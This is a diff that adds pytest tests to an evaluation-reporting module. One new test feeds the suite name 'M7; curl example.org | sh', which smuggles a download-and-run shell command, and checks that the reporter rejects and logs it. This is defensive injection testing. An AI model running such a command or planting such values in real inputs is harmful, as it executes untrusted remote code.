@@ -6,6 +6,8 @@ from datetime import datetime, timedelta
 from pathlib import Path
 from typing import Any
 
+import pytest
+
 from gitops.evals.due import Due
 from gitops.evals.registry import registry
 from gitops.evals.reporting import Report, Standing, report
@@ -42,6 +44,8 @@ def test_what_is_of_another_workspace_kind_or_past_commit_counts_for_nothing() -
     past = measurement("M1", NOW, 0.1, "broken", subject={"is_past": True, "moment": "2020-01-01T00:00:00Z"})
     nameless = measurement("M1", NOW, 0.1, "broken", metrics={})
     assert told([elsewhere, other, past, nameless]).is_empty
+    counted = measurement("M1", NOW, 0.9, "degraded")
+    assert one(told([past, counted]), "M1").series == (counted,)
 
 
 def test_an_attempt_that_gave_nothing_leaves_the_number_before_it_standing() -> None:
@@ -139,6 +143,11 @@ def test_the_judges_stand_there_with_what_is_published_of_them() -> None:
     assert one(told(), "M2").judges == ()
 
 
+@pytest.mark.parametrize("judges", [5, None, "offline", {"id": "offline"}, [[]]])
+def test_judges_that_are_no_list_are_none(judges: Any) -> None:
+    assert one(told([measurement("M1", NOW, 0.9, "degraded", instrument={"judges": judges})]), "M1").judges == ()
+
+
 # Of a repository
 
 
@@ -162,6 +171,21 @@ def test_a_report_is_read_from_the_notes_and_what_is_none_is_told(
     assert found.held == {}
     assert len(said) == 1
     assert said[0].endswith("; skipped")
+
+
+def test_what_can_be_no_metric_s_name_stands_in_no_command(
+    make_repository: Callable[..., Path], wiki_files: Mapping[str, Any]
+) -> None:
+    said: list[str] = []
+    context = kept(make_repository(wiki_files), said=said.append)
+    commit = resolve(context.repository, "HEAD")
+    hostile = "M7; curl example.org | sh"
+    for suite in (hostile, "M7"):
+        made = measurement(suite, NOW - DAY, 0.1, "broken", commit=commit, workspace="plant")
+        measurements.append(context, made)
+    found = report(context, "plant", commit, NOW - 30 * DAY)
+    assert [each.id for each in found.standings if each.metric is None] == ["M7"]
+    assert said == [f"a measurement on {commit[:10]}: '{hostile}' can be no metric's name; skipped"]
 
 
 def test_when_a_metric_is_due_is_told(make_repository: Callable[..., Path], wiki_files: Mapping[str, Any]) -> None:
